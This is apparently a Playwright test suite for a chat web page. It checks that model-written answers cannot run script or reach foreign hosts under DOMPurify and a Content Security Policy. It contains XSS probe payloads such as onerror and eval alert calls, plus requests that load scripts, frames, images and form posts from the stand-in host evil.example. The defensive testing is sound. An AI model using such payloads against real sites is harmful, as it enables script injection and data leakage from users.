"""A model's text never runs, never loads, never poses as the page: each wall alone, and together.

Every attack calls `alert`, asks for a file of evil.example, or would do so when clicked; the guard
of every page (conftest) fails on dialogs, popups, foreign requests and console errors.
"""

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.page.chat_page import ChatPage
from tests.page.conftest import Opener
from tests.page.sites import Site, answers

ATTACKS: list[str] = json.loads((Path(__file__).parent / "attacks.json").read_text())
# What is left in the answers that could do something, whatever it was made of.
LEFT = """
() => {
  const tags = "script,iframe,object,embed,form,input,style,link,meta,base,svg,video,audio,"
    + "template,textarea,select";
  const bad = [...document.querySelectorAll(".prose")].flatMap(
    (prose) => [...prose.querySelectorAll(tags)]);
  const address = /^(href|src|xlink:href|action|formaction|srcset|srcdoc)$/;
  const harmless = /^(https?:|mailto:|data:image\\/png)/;
  for (const node of document.querySelectorAll(".prose *")) {
    for (const { name, value } of node.attributes) {
      const acts = name.startsWith("on") || name === "id" || name === "name";
      const leads = address.test(name) && !harmless.test(value);
      if (acts || leads || (name === "src" && !value.startsWith("data:"))) bad.push(node);
    }
  }
  return bad.map((node) => node.outerHTML);
}
"""
# Clicks without leaving: real links open a new tab, which the guard would call a popup.
CLICK_ALL = """
() => {
  const nodes = [...document.querySelectorAll(".prose *")].filter(
    (node) => !/^https?:/.test(node.closest("a")?.getAttribute("href") ?? ""));
  for (const node of nodes) {
    for (const kind of ["pointerenter", "mouseover", "focus", "click"]) {
      node.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
    }
  }
  return nodes.length;
}
"""


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) == len(set(ATTACKS)) >= 60


def harmless(chat: ChatPage) -> None:
    assert chat.page.evaluate(LEFT) == []
    assert chat.page.evaluate(CLICK_ALL) > 0
    # Two frames and a task: what a click set off has happened by then.
    chat.page.evaluate("() => new Promise((done) => setTimeout(() => requestAnimationFrame(done)))")
    assert chat.page.url.startswith(chat.url)


def opened(opener: Opener, url: str, *, policy: bool) -> ChatPage:
    """With the policy, or with the browser told to ignore it: DOMPurify stands alone then."""
    chat = opener(url, bypass_csp=not policy)
    if policy:
        # DOMPurify parses in a document of its own, which inherits the policy and reports what it
        # would not have run anyway.
        chat.guard.allowed = "Content Security Policy|Failed to load resource"
    return chat


@pytest.fixture(scope="module")
def attacked(stub: Site) -> int:
    """Chats with each attack as a question, an answer, and some of them as titles; how many."""
    for index, attack in enumerate(ATTACKS):
        stub.host.faults = [answers(attack)]
        stub.ask(f"attacked-{index // 24}", attack)
    return (len(ATTACKS) + 23) // 24


@pytest.mark.parametrize("size", ["desktop"])
@pytest.mark.parametrize("policy", [True, False])
def test_each_attack_by_itself_does_nothing(
    site: Site, attacked: int, opener: Opener, *, policy: bool
) -> None:
    chat = opened(opener, site.url, policy=policy)
    for number in range(attacked):
        chat.page.evaluate(f"location.hash = '#/chat/attacked-{number}'")
        expect(chat.questions.first).to_have_text(ATTACKS[number * 24])
        harmless(chat)


@pytest.mark.parametrize("size", ["desktop"])
@pytest.mark.parametrize("policy", [True, False])
def test_all_attacks_streamed_in_one_answer_do_nothing(
    site: Site, opener: Opener, *, policy: bool
) -> None:
    """What one leaves open, the next may use."""
    chat = opened(opener, site.url, policy=policy)
    site.host.faults = [answers("\n\n".join(ATTACKS)), answers(" ".join(ATTACKS))]
    chat.ask("All of them, apart")
    chat.ask("All of them, in a row")
    harmless(chat)


@pytest.mark.parametrize("size", ["desktop"])
@pytest.mark.parametrize(
    "script",
    [
        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
        "eval('alert(1)')",
        "document.createElement('script').src = 'http://evil.example/x.js'",
        "document.createElement('object').data = 'http://evil.example/x'",
        "trustedTypes.createPolicy('mine', {})",
    ],
)
def test_the_policy_stops_what_dompurify_would_let_through(
    site: Site, opener: Opener, script: str
) -> None:
    chat = opener(site.url)
    chat.guard.allowed = "Content Security [Pp]olicy|Trusted(HTML|Script)"
    # In a task of its own: what a debugger evaluates directly may evaluate strings.
    outcome = chat.page.evaluate(
        f"""() => new Promise((done) => setTimeout(() => {{
          try {{ {script}; done('ran'); }} catch (problem) {{ done(String(problem)); }}
        }}))"""
    )
    assert outcome != "ran"


@pytest.mark.parametrize("size", ["desktop"])
def test_the_policy_stops_scripts_frames_and_foreign_files(site: Site, opener: Opener) -> None:
    chat = opener(site.url)
    chat.guard.allowed = "Content Security Policy|TrustedScript|Failed to load"
    # The browser tells of a request before the policy stops it.
    chat.guard.foreign = True
    wanted = {
        *("img-src", "frame-src", "style-src-elem", "media-src", "connect-src"),
        *("script-src-attr", "form-action"),
    }
    blocked = chat.page.evaluate(
        """
      (wanted) => new Promise((done) => {
        const seen = new Set();
        document.addEventListener("securitypolicyviolation", (event) => {
          seen.add(event.effectiveDirective);
          if (wanted.every((one) => seen.has(one))) done([...seen]);
        });
        setTimeout(() => done([...seen]), 5000);
        const add = (name, values) => {
          const node = Object.assign(document.createElement(name), values);
          document.body.append(node);
          return node;
        };
        add("img", { src: "http://evil.example/beacon.png" });
        add("iframe", { src: "http://evil.example/" });
        add("link", { rel: "stylesheet", href: "http://evil.example/x.css" });
        add("video", { src: "http://evil.example/v.mp4" });
        fetch("http://evil.example/said").catch(() => 0);
        add("form", { action: "http://evil.example/", method: "post" }).submit();
        // Trusted Types stop it before the policy on scripts has to.
        try { document.body.setAttribute("onclick", "alert(1)"); }
        catch { seen.add("script-src-attr"); }
      })
    """,
        sorted(wanted),
    )
    assert wanted <= set(blocked)


def test_a_link_leaves_no_way_back(site: Site, opener: Opener) -> None:
    chat = opener(site.url)
    site.host.faults = [answers("[a page](https://example.org/x) and ![pic](https://e.org/p.png)")]
    chat.ask("Where?")
    links = chat.prose.get_by_role("link")
    expect(links).to_have_count(2)
    for link in links.all():
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")
    expect(chat.prose.locator("img")).to_have_count(0)
